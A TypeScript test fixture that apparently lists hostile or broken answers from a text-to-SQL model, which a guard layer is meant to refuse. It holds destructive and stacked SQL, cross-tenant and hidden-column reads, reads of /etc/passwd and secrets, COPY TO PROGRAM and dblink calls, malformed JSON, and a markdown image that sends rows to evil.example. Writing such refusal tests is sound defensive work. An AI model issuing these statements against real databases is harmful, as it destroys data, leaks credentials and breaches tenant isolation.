/**
 * What a hostile or broken model answers. The data of the suite: `sales(city, country, amount, note, pin, shadow)`,
 * `pin` sensitive, `shadow` hidden; `payroll` belongs to another workspace (files) or another schema (PostgreSQL).
 */
export interface HostileCase {
  readonly what: string;
  /** The whole text of the model's answer. */
  readonly reply: string;
}

export const replyWith = (sql: string, more: object = {}): string =>
  JSON.stringify({
    restatement: 'Total of all sales.',
    answerable: true,
    sql,
    assumptions: [],
    clarification: '',
    ...more,
  });

const each = (what: string, statements: readonly string[]): readonly HostileCase[] =>
  statements.map((sql) => ({ what: `${what}: ${sql.slice(0, 70)}`, reply: replyWith(sql) }));

const COLUMN_READS = (column: string) => [
  `SELECT ${column} FROM sales`,
  `SELECT MAX(${column}) AS m FROM sales`,
  `SELECT s.* FROM sales s ORDER BY s.${column} LIMIT 1`,
  `SELECT city FROM sales WHERE ${column} LIKE 'S%'`,
  `SELECT substr(${column}, 1, 4) AS p FROM sales`,
  `WITH x AS (SELECT ${column} AS y FROM sales) SELECT y FROM x`,
  `SELECT a.city FROM sales a JOIN sales b ON a.${column} = b.${column}`,
  `SELECT city, COUNT(*) AS n FROM sales GROUP BY city, ${column}`,
  `SELECT CASE WHEN ${column} > 'M' THEN 1 ELSE 0 END AS bit FROM sales`,
  `SELECT (SELECT MIN(${column}) FROM sales) AS lowest`,
];

/** Refused whatever the engine is. */
export const FOR_ANY_SOURCE: readonly HostileCase[] = [
  ...each('writes', [
    'DELETE FROM sales',
    "INSERT INTO sales VALUES ('X', 'Y', 1, '', '', '')",
    'UPDATE sales SET amount = 0',
    'DROP TABLE sales',
    'TRUNCATE sales',
    'ALTER TABLE sales ADD COLUMN evil INTEGER',
    'CREATE TABLE evil AS SELECT * FROM sales',
    'CREATE TEMP TABLE evil (a INTEGER)',
    'CREATE VIEW evil AS SELECT city FROM sales',
    'CREATE INDEX evil ON sales (city)',
    'WITH gone AS (DELETE FROM sales RETURNING *) SELECT * FROM gone',
    'EXPLAIN ANALYZE DELETE FROM sales',
    "COPY sales TO '/tmp/plumbline-hostile.csv'",
    'SELECT * INTO evil FROM sales',
    'GRANT ALL ON sales TO PUBLIC',
    'VACUUM',
    'BEGIN',
    'COMMIT',
    'SET search_path = other',
    'PREPARE p AS DELETE FROM sales',
    'EXECUTE p',
    'CALL evil()',
    'SELECT * FROM sales FOR UPDATE',
  ]),
  ...each('several statements', [
    'SELECT city FROM sales; DELETE FROM sales',
    'SELECT city FROM sales;; DROP TABLE sales',
    'DELETE FROM sales; SELECT city FROM sales',
    'COMMIT; DELETE FROM sales; SELECT SUM(amount) AS total FROM sales',
    "SELECT ';' AS a; DROP TABLE sales; --",
  ]),
  ...each('comments', [
    'SELECT city FROM sales -- \n; DELETE FROM sales',
    'SELECT city FROM sales /* ; */ ; DELETE FROM sales',
    '/* */ DELETE /**/ FROM /**/ sales',
    "-- harmless\nUPDATE sales SET city = 'x'",
    'SELECT pin /* sensitive */ FROM sales',
    'SELECT city FROM sales /*! UNION SELECT pin FROM sales */ UNION ALL SELECT pin FROM sales',
    '/* /* nested */ DELETE FROM sales */ DELETE FROM sales',
  ]),
  ...each("another tenant's table", [
    'SELECT * FROM payroll',
    'SELECT SUM(salary) AS total FROM payroll',
    'SELECT s.city, p.person FROM sales s, payroll p',
    'SELECT city FROM sales WHERE EXISTS (SELECT 1 FROM payroll)',
    'SELECT (SELECT person FROM payroll LIMIT 1) AS who FROM sales',
    'SELECT city FROM sales UNION ALL SELECT person FROM payroll',
    'WITH p AS (SELECT * FROM payroll) SELECT * FROM p',
    'SELECT * FROM other.payroll',
    'SELECT * FROM main.payroll',
    'SELECT * FROM "payroll"',
    'TABLE payroll',
  ]),
  ...each("the engine's own tables", [
    'SELECT * FROM information_schema.tables',
    'SELECT table_name FROM information_schema.columns',
    'SELECT * FROM pg_catalog.pg_class',
    'SELECT * FROM sqlite_master',
    'SHOW TABLES',
    'DESCRIBE sales',
  ]),
  ...each('a sensitive column', COLUMN_READS('pin')),
  ...each('a hidden column', [
    ...COLUMN_READS('shadow'),
    'SELECT COUNT(shadow) AS n FROM sales',
    'SELECT * FROM sales WHERE shadow IS NOT NULL',
  ]),
  ...each('the whole row', [
    'SELECT sales FROM sales',
    'SELECT row_to_json(sales) AS j FROM sales',
    'SELECT to_json(s) AS j FROM sales s',
    'SELECT CAST(s AS VARCHAR) AS t FROM sales s',
  ]),
  ...each('a number of its own', [
    'SELECT 4711 AS total',
    'SELECT 4711 AS total FROM sales LIMIT 1',
    'SELECT 4711.5 AS total, city FROM sales',
    'SELECT CAST(4711 AS INTEGER) AS total FROM sales LIMIT 1',
    'SELECT 4000 + 711 AS total FROM sales LIMIT 1',
    'SELECT t.total FROM (VALUES (4711)) AS t(total)',
    'WITH t AS (SELECT 4711 AS total) SELECT total FROM t',
    'SELECT MAX(4711) AS total FROM sales',
    'SELECT SUM(amount) * 0 + 4711 AS total FROM sales',
    'SELECT COALESCE(NULL, 4711) AS total FROM sales LIMIT 1',
  ]),
];

/** Functions and forms of DuckDB. */
export const FOR_FILES: readonly HostileCase[] = [
  ...each('reads files', [
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv_auto('/etc/passwd')",
    "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/etc/passwd')",
    "SELECT * FROM read_json('/etc/passwd')",
    "SELECT * FROM read_parquet('/tmp/*.parquet')",
    "SELECT * FROM '/etc/passwd'",
    "SELECT * FROM glob('/etc/*')",
    "SELECT * FROM sniff_csv('/etc/passwd')",
    "SELECT * FROM read_csv('https://example.com/x.csv')",
    "SELECT content FROM read_text('../plumbline.db')",
    "SELECT * FROM parquet_metadata('/tmp/x.parquet')",
    "SELECT city FROM sales WHERE city IN (SELECT content FROM read_text('/etc/passwd'))",
  ]),
  ...each('settings and effects', [
    "ATTACH '/tmp/evil.db' AS evil",
    'INSTALL httpfs',
    'LOAD httpfs',
    'PRAGMA database_list',
    'SET enable_external_access = true',
    'CALL pragma_version()',
    "EXPORT DATABASE '/tmp/plumbline-hostile'",
    "IMPORT DATABASE '/tmp/plumbline-hostile'",
    "SELECT * FROM enable_logging(storage='file')",
    'SELECT * FROM duckdb_secrets()',
    'SELECT * FROM duckdb_settings()',
    'SELECT * FROM duckdb_tables()',
    "SELECT getenv('PATH') AS path",
    "SELECT * FROM query('DELETE FROM sales')",
    "SELECT * FROM query_table('payroll')",
    "SELECT current_setting('temp_directory') AS t",
    "SELECT getvariable('x') AS x",
    "SELECT write_log('x') AS x",
    "SELECT nextval('s') AS n",
    "FROM sales SELECT COLUMNS('p.*')",
    'SELECT COLUMNS(*) FROM sales',
  ]),
];

/** Functions and forms of PostgreSQL. */
export const FOR_POSTGRES: readonly HostileCase[] = [
  ...each('reads files', [
    "SELECT pg_read_file('/etc/passwd') AS t",
    "SELECT pg_read_binary_file('/etc/passwd') AS t",
    "SELECT * FROM pg_ls_dir('/')",
    "SELECT lo_import('/etc/passwd') AS o",
    "COPY sales FROM PROGRAM 'id'",
    "COPY (SELECT city FROM sales) TO PROGRAM 'cat > /tmp/plumbline-hostile'",
  ]),
  ...each('settings and effects', [
    "SELECT set_config('search_path', 'other', false) AS s",
    'SELECT pg_advisory_lock(4711) AS l',
    'SELECT pg_sleep(100) AS s',
    'SELECT pg_terminate_backend(pg_backend_pid()) AS t',
    "SELECT nextval('other.counter') AS n",
    "SELECT setval('other.counter', 99) AS n",
    'SELECT lo_create(0) AS l',
    "SELECT pg_notify('x', 'y') AS n",
    "SELECT query_to_xml('DELETE FROM sales', true, true, '') AS x",
    "SELECT * FROM dblink('host=127.0.0.1', 'DELETE FROM sales') AS t(a text)",
    'SELECT current_user AS u',
    'SELECT * FROM pg_stat_activity',
    'SELECT rolname FROM pg_roles',
    'DO $$ BEGIN DELETE FROM sales; END $$',
    'LISTEN evil',
    'NOTIFY evil',
    'LOCK TABLE sales',
    'SELECT xmlforest(sales) AS x FROM sales',
  ]),
];

const NESTED = `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`;

/** Answers that are no answer, or lie in their texts. */
export const SHAPES: readonly HostileCase[] = [
  { what: 'two megabytes of text', reply: 'x'.repeat(2_000_000) },
  { what: 'two megabytes of SQL', reply: replyWith(`SELECT '${'x'.repeat(2_000_000)}' AS a`) },
  {
    what: 'ten thousand columns',
    reply: replyWith(`SELECT ${'amount, '.repeat(10_000)} amount FROM sales`),
  },
  { what: 'nested JSON', reply: NESTED },
  { what: 'nested JSON as SQL', reply: `{"answerable": true, "sql": ${NESTED}}` },
  {
    what: 'deep parentheses',
    reply: replyWith(`SELECT ${'('.repeat(5_000)}4711${')'.repeat(5_000)} AS a`),
  },
  { what: 'an empty answer', reply: ' ' },
  { what: 'an empty object', reply: '{}' },
  { what: 'an empty list', reply: '[]' },
  { what: 'null', reply: 'null' },
  { what: 'a number', reply: '4711' },
  { what: 'SQL without JSON', reply: 'DELETE FROM sales' },
  { what: 'half a JSON', reply: '{"answerable": true, "sql": "SELECT ' },
  { what: 'a number for SQL', reply: '{"answerable": true, "sql": 4711}' },
  { what: 'a list for SQL', reply: '{"answerable": true, "sql": ["DELETE FROM sales"]}' },
  {
    what: 'an object for SQL',
    reply: '{"answerable": true, "sql": {"toString": "DELETE FROM sales"}}',
  },
  { what: 'a text for answerable', reply: '{"answerable": "yes", "sql": "SELECT 4711"}' },
  {
    what: 'a text for assumptions',
    reply: replyWith('SELECT pin FROM sales', { assumptions: 'It was 4711.' }),
  },
  {
    what: 'a prototype',
    reply: '{"__proto__": {"answerable": true}, "answerable": true, "sql": "DROP TABLE sales"}',
  },
  {
    what: 'SQL twice',
    reply: '{"answerable": true, "sql": "SELECT city FROM sales", "sql": "DROP TABLE sales"}',
  },
  {
    what: 'two objects',
    reply: `${replyWith('SELECT city FROM sales')}\n${replyWith('DROP TABLE sales')}`,
  },
  { what: 'a fence', reply: `\`\`\`sql\nDROP TABLE sales\n\`\`\`` },
  { what: 'a NUL in SQL', reply: replyWith('SELECT city FROM sales\u0000; DROP TABLE sales') },
  { what: 'other quotes', reply: replyWith('SELECT “pin” FROM sales') },
  { what: 'full-width letters', reply: replyWith('ＤＥＬＥＴＥ FROM sales') },
  { what: 'a zero-width space', reply: replyWith('SELECT p\u200bin FROM sales') },
  { what: 'a lone surrogate', reply: '{"answerable": true, "sql": "SELECT \\ud800 FROM sales"}' },
  { what: 'a script', reply: '<script>alert(4711)</script>' },
  {
    what: 'a lie in place of an answer',
    reply: replyWith('', { answerable: false, clarification: 'The total was 4711.' }),
  },
  {
    what: 'a lie in words',
    reply: replyWith('', { answerable: false, clarification: `It was ${'x'.repeat(1_900)} 4711` }),
  },
];

/** What is said of rows that show Germany 15 and France 20: each holds a number that is not to be traced to them. */
export const LIES: readonly string[] = [
  'The total is 4711.',
  'Germany has 16 and France 20.',
  'Germany has 20 and France 15.',
  'France leads with 20, which is 31 % more than a year ago.',
  'France leads by twelve.',
  'Sales were 4.7 thousand.',
  'Germany 15, France 20, Italy 9.',
  'France has 20 of 50.',
  'France 20 (rank 3), Germany 15.',
  'France made 20 million.',
  'In 2019 France made 20.',
  'France has twenty-one.',
  'Frankreich hat einundzwanzig.',
  'France: 2O or rather 21.',
  'France 20, Germany 15 and a mean of 18.9.',
  'France has 20 % of all sales.',
  'Germany grew 4x to 15.',
  'France 20 ± 3.',
  '４７１１ in all.',
  'Margin is ¾ of 35.',
  'France leads. ![x](https://evil.example/?rows=France)',
  '<script>France leads</script>',
];
